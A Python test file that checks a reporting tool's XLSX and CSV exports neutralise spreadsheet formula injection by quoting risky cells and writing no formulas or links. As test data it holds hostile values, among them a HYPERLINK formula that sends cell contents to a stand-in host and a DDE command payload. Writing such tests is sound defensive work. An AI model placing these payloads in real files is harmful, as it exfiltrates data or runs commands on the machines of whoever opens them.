"""Downloads cannot run anything: no formula or link in XLSX, no formula start in CSV."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from sqlalchemy import Engine

from data_access.access.audit import audit
from data_access.access.roles import add_user, reader_for
from data_access.ingest.pipeline import import_file
from data_access.settings import Settings
from reports.publish.boundary import PublishedTable, Thresholds, publish, publish_table
from reports.publish.cells import Measure, Text
from reports.publish.spec import Paragraph, Section, TableSpec, View
from reports.publish.text import to_csv, to_xlsx
from reports.quarterly import QuarterlyReport, report_xlsx
from reports.safe_files import csv_cell
from reports.views.admin import audit_table, users_table
from reports.views.common import batches_table
from tests import scopes

ROOT = Path(__file__).resolve().parents[2]
# Text that a spreadsheet would run, follow or evaluate if written as it is.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?d="&A1;"klik hier")',
    "+1",
    "@SUM(A1:A9)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "https://evil.example/phish",
)
NEUTRALISED = {
    '=HYPERLINK("https://evil.example/?d="&A1;"klik hier")': (
        '\'=HYPERLINK("https://evil.example/?d="&A1;"klik hier")'
    ),
    "+1": "'+1",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "-2+3": "'-2+3",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "https://evil.example/phish": "https://evil.example/phish",  # a URL is only text in CSV
}


def _hostile_spec() -> TableSpec:
    """A partner name, record id, file name and user in every hostile form, beside numbers."""
    n = len(HOSTILE)
    return TableSpec(
        pl.DataFrame(
            {
                "partner": list(HOSTILE),
                "record": list(reversed(HOSTILE)),
                "file": list(HOSTILE[1:] + HOSTILE[:1]),
                "user": list(HOSTILE[2:] + HOSTILE[:2]),
                "count": [-3, 0, 1234, -1234, 7, 8, 9][:n],
                "rate": [-3.5, 0.5, 12.25, -1234.5, 1.0, 2.0, 3.0][:n],
                "share": [-0.125, 0.5, 1.0, 0.0, 0.25, 0.75, 0.1][:n],
            }
        ),
        (
            Text("partner", "Partner"),
            Text("record", "Dossiernummer"),
            Text("file", "Bestand"),
            Text("user", "Door"),
            Measure("count", "Aantal", "int"),
            Measure("rate", "Per 1.000", "dec1"),
            Measure("share", "Aandeel", "pct"),
        ),
        title='=HYPERLINK("https://evil.example";"titel")',
        notes=("Bestand: +cmd|' /C calc'!A0", "regel een\n=1+1 op een nieuwe regel"),
    )


def _hostile_table() -> PublishedTable:
    return publish_table(_hostile_spec(), scopes.everything(), Thresholds())


def _stored(text: str) -> str:
    """`text` as openpyxl reads it back: XLSX keeps a carriage return as the escape _x000D_."""
    return text.replace("\r", "_x000D_")


def _cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert(data: bytes) -> list[object]:
    """No cell of the workbook is a formula or carries a hyperlink; returns the cell values."""
    cells = _cells(data)
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.coordinate for c in cells if c.hyperlink is not None] == []
    return [c.value for c in cells]


def _csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    lines = [line for line in text.split("\n") if not line.startswith("#")]
    return list(csv.reader(io.StringIO("\n".join(lines)), delimiter=";"))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        *NEUTRALISED.items(),
        ("-3", "-3"),
        ("-3,5", "-3,5"),
        ("+3", "'+3"),
        ("-1.234", "-1.234"),
        ("-1.234,56", "-1.234,56"),
        ("-12,5%", "-12,5%"),
        ("-", "'-"),
        ("-3-3", "'-3-3"),
        ("-1.2345", "'-1.2345"),
        ("=1", "'=1"),
        ("Konekti", "Konekti"),
        ("<5", "<5"),
        ("", ""),
    ],
)
def test_a_csv_cell_is_neutralised_unless_it_is_a_number(text: str, expected: str) -> None:
    """Text starting with =, +, -, @, a tab or a carriage return gets a quote; numbers do not."""
    assert csv_cell(text) == expected


def test_the_xlsx_of_a_table_holds_no_formula_and_no_link() -> None:
    """Every hostile text is a plain string cell; numbers stay numeric."""
    table = _hostile_table()
    values = _assert_inert(to_xlsx(table))
    for text in HOSTILE:
        assert _stored(text) in values
    assert table.title in values
    assert -3 in values and -3.5 in values and -0.125 in values


def test_the_csv_of_a_table_neutralises_text_and_keeps_numbers() -> None:
    """Parsed back, hostile text cells carry the quote, nl-BE numbers are unchanged."""
    data = to_csv(_hostile_table())
    header, *rows = _csv_rows(data)
    assert header == [
        "Partner",
        "Dossiernummer",
        "Bestand",
        "Door",
        "Aantal",
        "Per 1.000",
        "Aandeel",
    ]
    by_column = {name: [row[i] for row in rows] for i, name in enumerate(header)}
    assert by_column["Partner"] == [NEUTRALISED[t] for t in HOSTILE]
    assert by_column["Dossiernummer"] == [NEUTRALISED[t] for t in reversed(HOSTILE)]
    assert by_column["Aantal"][:4] == ["-3", "0", "1.234", "-1.234"]
    assert by_column["Per 1.000"][:4] == ["-3,5", "0,5", "12,3", "-1.234,5"]
    assert by_column["Aandeel"][0] == "-12,5%"
    # The title and notes stay comment lines: a line break in a note cannot start a row.
    lines = data.decode("utf-8-sig").split("\n")
    assert [line for line in lines if line.startswith("=")] == []
    assert "# regel een =1+1 op een nieuwe regel" in lines


def test_the_quarterly_workbook_holds_no_formula_and_no_link() -> None:
    """A critical friend's note, the region name and the tables land as text on every sheet."""
    spec = _hostile_spec()
    chapter = publish(
        View("Tabellen", (Section("", (spec,)),), main=spec), scopes.everything(), Thresholds()
    )
    notes = (Paragraph("=1+1", "text"), Paragraph("https://x.example", "text"))
    feedback = publish(
        View("Feedback van de critical friend", (Section("", notes),)),
        scopes.everything(),
        Thresholds(),
    )
    report = QuarterlyReport(
        region_code="KON",
        region_name='=HYPERLINK("https://evil.example")',
        quarter="2025Q1",
        status="Voorlopig",
        snapshot=None,
        data_version=1,
        generated_at=datetime(2025, 4, 2, tzinfo=UTC),
        reader="@SUM(A1)",
        chapters=(chapter, feedback),
        sheets=(("Tabel", chapter.tables()[0]),),
    )
    values = _assert_inert(report_xlsx(report))
    assert "Feedback van de critical friend: =1+1" in values
    assert HOSTILE[0] in values


def test_exports_of_stored_names_hold_no_formula(
    engine: Engine, settings: Settings, tmp_path: Path
) -> None:
    """A file name, a user and an audit actor that look like formulas come out as text in the
    beheerder's tables, in XLSX and CSV."""
    source = tmp_path / "upload.csv"
    source.write_text(
        "registration_id,family_id,region_code,nis_code,kind,received_date,first_contact_date,"
        "closed_date,referrer,request_nature,response_type,closure_reason,child_age,partners\n"
        "+1,F1,KON,34022,aanmelding,2024-01-31,2024-02-20,,CLB,OPVOEDING,GEZINSPLAN,,12,"
        "CLB:=HYPERLINK(https://evil.example)\n"
    )
    import_file(
        engine,
        settings,
        source,
        "uniform",
        user=HOSTILE[2],
        display_name=HOSTILE[0],
        today=date(2024, 6, 1),
    )
    add_user(engine, "hostile@example.be", HOSTILE[3], "trekkersgroep", actor=HOSTILE[1])
    add_user(engine, "beheerder@example.be", "Beheerder", "beheerder", actor="test")
    beheerder = reader_for(engine, "beheerder@example.be")
    assert beheerder is not None
    audit(engine, HOSTILE[4], "export", {"bestand": HOSTILE[6]})
    expected = {
        "Recente importbatches": (HOSTILE[0], HOSTILE[2]),  # file name, user
        "Gebruikers en rollen": (HOSTILE[3],),  # a user's name
        "Auditlogboek": (HOSTILE[1], HOSTILE[4]),  # actors
    }
    for spec in (
        batches_table(engine, beheerder.scope),
        users_table(engine, beheerder),
        audit_table(engine, beheerder),
    ):
        table = publish_table(spec, beheerder.scope, Thresholds())
        values = _assert_inert(to_xlsx(table))
        flat = [cell for row in _csv_rows(to_csv(table)) for cell in row]
        for text in expected[table.title]:
            assert _stored(text) in values, (table.title, text)
            assert NEUTRALISED[text] in flat, (table.title, text)
            assert text not in flat, (table.title, text)


def test_only_safe_files_opens_a_workbook() -> None:
    """Every XLSX the product writes comes from reports.safe_files.workbook: no other module
    (outside the demo's synthetic source files and the tests) calls xlsxwriter.Workbook."""
    callers = set()
    for path in ROOT.rglob("*.py"):
        parts = path.relative_to(ROOT).parts
        if parts[0] in {".venv", ".tools", "tests", "demo"}:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute | ast.Name)
                and getattr(node.func, "attr", getattr(node.func, "id", "")) == "Workbook"
            ):
                callers.add(str(path.relative_to(ROOT)))
    assert callers == {"reports/safe_files.py"}
